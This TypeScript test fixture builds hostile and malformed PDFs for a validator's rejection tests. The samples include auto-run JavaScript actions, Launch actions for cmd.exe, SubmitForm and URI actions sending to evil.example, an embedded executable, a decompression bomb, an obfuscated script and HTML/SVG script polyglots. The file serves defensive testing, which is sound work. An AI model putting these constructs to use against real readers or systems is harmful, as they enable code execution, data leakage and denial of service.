import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { textPdf } from '#server/demo/pdf.ts'

/** A PDF of these objects, the first of them the catalogue. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (bytes: Buffer): void => {
    parts.push(bytes)
    length += bytes.length
  }
  for (const [index, object] of objects.entries()) {
    offsets.push(length)
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
  }
  const start = length
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  add(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

const stream = (content: Buffer | string, extra = ''): Buffer => {
  const bytes = Buffer.from(content)
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${extra} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])
}
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = (extra = '', box = '0 0 595 842') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << >> ${extra} >>`
const catalogue = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra} >>`
const simple = ({
  root = '',
  leaf = '',
  box = '0 0 595 842',
  content = stream('BT ET'),
  more = [] as (string | Buffer)[],
  trailer = '',
}) => pdfOf([catalogue(root), pages, page(leaf, box), content, ...more], trailer)
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

const start = (action: string): readonly [string, Buffer] => [
  `an action at the start: ${action}`,
  simple({ root: `/OpenAction ${action}` }),
]
const startsByItself: readonly (readonly [string, Buffer])[] = [
  start(script),
  start('<< /S /Launch /F (cmd.exe) >>'),
  start('<< /S /URI /URI (https://evil.example/) >>'),
  start('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  start('<< /S /SubmitForm /F (https://evil.example/) >>'),
  start('<< /S /ImportData /F (data.fdf) >>'),
  start('<< /S /Named /N /Print >>'),
  start('<< /S /Rendition /JS (app.alert\\(1\\)) >>'),
  start('5 0 R'),
  ...['O', 'C', 'WC', 'WS', 'DS', 'WP', 'DP'].map(
    (when) =>
      [`a script of the document at ${when}`, simple({ root: `/AA << /${when} ${script} >>` })] as const,
  ),
  ...['O', 'C'].map(
    (when) => [`a script of a page at ${when}`, simple({ leaf: `/AA << /${when} ${script} >>` })] as const,
  ),
  ['a script by name', simple({ root: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` })],
  [
    'a script of a form field',
    simple({
      root: '/AcroForm << /Fields [5 0 R] >>',
      leaf: '/Annots [5 0 R]',
      more: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${script} >> >>`],
    }),
  ],
  [
    'a script of a link',
    simple({
      leaf: '/Annots [5 0 R]',
      more: [`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${script} >>`],
    }),
  ],
  [
    'a program of a link',
    simple({
      leaf: '/Annots [5 0 R]',
      more: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>'],
    }),
  ],
  [
    'a file inside',
    simple({
      root: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      more: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', stream('MZ')],
    }),
  ],
  [
    'a film',
    simple({
      leaf: '/Annots [5 0 R]',
      more: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'],
    }),
  ],
  [
    'a form of XML',
    simple({
      root: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')],
    }),
  ],
  [
    'a password',
    simple({
      trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> /P -4 >>`,
    }),
  ],
]

/** Deflated twice: a few kilobytes that mean a gigabyte. */
const bomb = (): Buffer => {
  const zeros = deflateSync(Buffer.alloc(100_000_000))
  return deflateSync(Buffer.concat([zeros, zeros, zeros]))
}
const many = (count: number): Buffer => {
  const kids = Array.from({ length: count }, (_, nth) => `${nth + 4} 0 R`).join(' ')
  const leaves = Array.from(
    { length: count },
    () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Contents 3 0 R >>',
  )
  return pdfOf([
    catalogue(),
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    stream('BT ET'),
    ...leaves,
  ])
}
const plain = (): Buffer => textPdf(['Regole', 'di sicurezza'])

/** Files that no visitor may be shown, by what is wrong with them (F05). */
export const evilPdfs = (): readonly (readonly [string, Buffer])[] => [
  ...startsByItself,
  ['10,000 pages', many(10_000)],
  ['501 pages', many(501)],
  ['a page of 20 km', simple({ box: '0 0 60000000 842' })],
  ['no page', pdfOf([catalogue(), '<< /Type /Pages /Kids [] /Count 0 >>'])],
  ['pages that are their own parents', pdfOf([catalogue(), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])],
  ['a content that is a bomb', simple({ content: stream(bomb(), '/Filter [/FlateDecode /FlateDecode]') })],
  [
    'a million operators',
    simple({ content: stream(deflateSync(Buffer.from('q '.repeat(8_000_000))), '/Filter /FlateDecode') }),
  ],
  [
    'a script in a packed object, spelt otherwise',
    simple({
      more: [
        stream(
          deflateSync(Buffer.from('7 0 << /S /Java#53cript /J#53 (app.alert(1)) >>')),
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        ),
      ],
    }),
  ],
  ['nothing but a head', Buffer.from('%PDF-1.7\n')],
  ['a head and noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000)])],
  ['a head and zeros', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000)])],
  ['its second half missing', plain().subarray(0, 250)],
  ['HTML before it', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), plain()])],
  ['a ZIP before it', Buffer.concat([Buffer.from('504b0304', 'hex'), plain()])],
  ['a picture before it', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), plain()])],
  ['no PDF at all', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
]
